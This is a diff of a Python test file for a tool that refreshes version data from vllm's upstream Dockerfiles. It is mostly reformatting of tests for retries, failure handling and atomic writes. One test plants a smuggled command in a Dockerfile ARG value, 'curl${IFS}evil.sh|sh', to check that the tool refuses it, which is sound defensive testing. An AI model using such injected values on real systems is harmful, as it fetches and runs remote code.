@@ -18,7 +18,9 @@ from .server import Upstream
 
 runner = CliRunner()
 TAGS = "/repos/vllm-project/vllm/tags"
-V0100 = "/raw/vllm-project/vllm/6d8d0a24c02bfd84d46b3016b865a44f048ae84b/docker/Dockerfile.rocm_base"
+V0100 = (
+    "/raw/vllm-project/vllm/6d8d0a24c02bfd84d46b3016b865a44f048ae84b/docker/Dockerfile.rocm_base"
+)
 
 
 def fast_client() -> HttpClient:
@@ -52,7 +54,12 @@ def test_500s_then_success_is_retried_and_written(upstream: Upstream, without_01
     ids=["500s", "timeouts", "malformed-json", "truncated-file"],
 )
 def test_failure_leaves_the_data_untouched(
-    upstream: Upstream, without_0100: Path, path: str, faults: list[str], message: str, monkeypatch: pytest.MonkeyPatch
+    upstream: Upstream,
+    without_0100: Path,
+    path: str,
+    faults: list[str],
+    message: str,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     upstream.faults[path] = list(faults)
     monkeypatch.setattr("resolver.refresh.runner.HttpClient", lambda **_kw: fast_client())
@@ -64,7 +71,9 @@ def test_failure_leaves_the_data_untouched(
     assert not overlay.overlay_path().exists()
 
 
-def test_failure_after_an_earlier_write_keeps_the_old_overlay(upstream: Upstream, without_0100: Path) -> None:
+def test_failure_after_an_earlier_write_keeps_the_old_overlay(
+    upstream: Upstream, without_0100: Path
+) -> None:
     refresh(["vllm"], write=True)
     before = overlay.overlay_path().read_bytes()
     drop_records(without_0100 / "vllm.toml", "version", {"0.8.3"})
@@ -75,9 +84,13 @@ def test_failure_after_an_earlier_write_keeps_the_old_overlay(upstream: Upstream
     assert not [p for p in overlay.overlay_path().parent.iterdir() if p.name.endswith(".tmp")]
 
 
-def test_hostile_ref_in_a_dockerfile_is_refused_and_named(upstream: Upstream, without_0100: Path) -> None:
+def test_hostile_ref_in_a_dockerfile_is_refused_and_named(
+    upstream: Upstream, without_0100: Path
+) -> None:
     real = (Path(__file__).parent / "recorded" / "raw" / V0100[len("/raw/") :]).read_text()
-    upstream.overrides[V0100] = real.replace('ARG TRITON_BRANCH="e5be006"', 'ARG TRITON_BRANCH="e5be006;curl${IFS}evil.sh|sh"').encode()
+    upstream.overrides[V0100] = real.replace(
+        'ARG TRITON_BRANCH="e5be006"', 'ARG TRITON_BRANCH="e5be006;curl${IFS}evil.sh|sh"'
+    ).encode()
     result = runner.invoke(app, ["matrix", "refresh", "--source", "vllm", "--write"])
     assert result.exit_code == 0, result.output  # nothing acceptable changed
     assert "refused (1, never written):" in result.output
@@ -100,7 +113,8 @@ def test_truncated_dockerfile_content_is_refused(upstream: Upstream, without_010
     real = (Path(__file__).parent / "recorded" / "raw" / V0100[len("/raw/") :]).read_text()
     upstream.overrides[V0100] = real[:120].encode()  # stops before PYTORCH_ROCM_ARCH
     outcome = refresh(["vllm"], write=True)
-    assert not outcome.changes and outcome.written is None
+    assert not outcome.changes
+    assert outcome.written is None
     (refusal,) = outcome.refused
     assert "give no arch" in refusal.reason
 
